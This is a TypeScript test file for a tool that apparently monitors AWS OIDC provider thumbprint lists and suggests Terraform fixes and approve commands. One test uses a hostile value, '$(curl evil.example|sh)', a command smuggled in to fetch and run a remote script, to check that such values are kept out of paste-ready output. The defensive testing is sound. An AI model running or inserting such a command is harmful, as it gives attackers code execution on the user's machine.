import { externalChange, writingStopped } from '../../../../lambda/judge/findings/external-change-findings';
import { A, B, DAY, OURS_AND_LIVE, ago, stateOf } from '../../../support/remembered';

function context(tags: Record<string, string> = {}) {
  return {
    tags,
  };
}

const TERRAFORM = { ManagedBy: 'terraform' };

describe('an external change', () => {
  const change = (of: Partial<Parameters<typeof externalChange>[0]>, approvals: string[] = [], tags = {}) =>
    externalChange({ added: [], removed: [], removedByOthers: [], ...of }, approvals, context(tags));

  test('is a warning where it adds a thumbprint, since an added certificate can impersonate the issuer', () => {
    expect(change({ added: [A], removed: [B] }, [], TERRAFORM)).toEqual({
      code: 'external-change',
      severity: 'warning',
      message: `Someone else (Terraform, going by the tags) changed the list: added ${A} and removed ${B}.`,
      action:
        'Make sure that you know who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint): whoever has the key of an added certificate can impersonate the issuer. To take out again what was added, and keep it out:',
      commands: [{ kind: 'remove', thumbprint: A }],
    });
  });

  test('is information where it only removes thumbprints', () => {
    expect(change({ removed: [B] })).toEqual({
      code: 'external-change',
      severity: 'info',
      message: `Someone else changed the list: removed ${B}.`,
      action: 'If that was not meant, find out who did it (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint).',
    });
  });

  test('is a warning where it removes a thumbprint that the issuer presented, and the message says so', () => {
    const finding = change({ removed: [B], removedByOthers: [B] });
    expect(finding.severity).toBe('warning');
    expect(finding.message).toContain(`The issuer presented ${B} when last looked at.`);
  });

  test('names the approvals that it ends, with a command for each', () => {
    const finding = change({ removed: [A, B] }, [A, B]);
    expect(finding.message).toMatch(`That ends the approval of ${A}, ${B}.`);
    expect(finding.action).toMatch(
      /What is still wanted has to be approved again, with "stage": true while no host presents it:$/,
    );
    expect(finding.commands).toEqual([A, B].map((thumbprint) => ({ kind: 'approve', thumbprint })));
  });
});

describe('the finding that writing was stopped', () => {
  const stopped = stateOf({ [A]: OURS_AND_LIVE }, { stoppedSince: ago(2 * DAY) });

  test('says who keeps undoing the writes, what to set in their source, and which command lets the watcher write again', () => {
    expect(writingStopped(stopped, { ...context(TERRAFORM), wanted: [A, B] })).toEqual({
      code: 'writing-stopped',
      severity: 'critical',
      message:
        'Someone else (Terraform, going by the tags) keeps removing what the watcher adds. The watcher has written nothing here since 2026-11-19, so that the list does not change back and forth.',
      action: [
        'Set what stands below in its aws_iam_openid_connect_provider resource, so that it wants the same list. Then let the watcher write again: any approval or restore does, for example the last line here.',
        `thumbprint_list = ["${A}", "${B}"]`,
        'lifecycle { ignore_changes = [thumbprint_list] }',
      ].join('\n'),
      commands: [{ kind: 'approve', thumbprint: A }],
    });
  });

  test('offers only thumbprints to paste, and no command without one', () => {
    const odd = '$(curl evil.example|sh)';
    const { action, commands } = writingStopped(stopped, { ...context(TERRAFORM), wanted: [odd, A] });
    expect(action.split('\n')[1]).toBe(`thumbprint_list = ["${A}"]`);
    expect(commands).toEqual([{ kind: 'approve', thumbprint: A }]);
    const alone = writingStopped(stopped, { ...context(), wanted: [odd] });
    expect(alone.action).toMatch(/this one: "\$\(curl evil\.example\|sh\)"\. Then .* any approval or restore does\.$/);
    expect(alone.commands).toEqual([]);
  });

  test('names nobody where the tags show no owner', () => {
    const { message, action } = writingStopped(stopped, { ...context(), wanted: [A] });
    expect(message).toMatch(/^Someone else keeps removing/);
    expect(action).toMatch(
      `Find out who writes the list (CloudTrail knows: UpdateOpenIDConnectProviderThumbprint), and make it want this one: ${A}. Then let`,
    );
  });
});
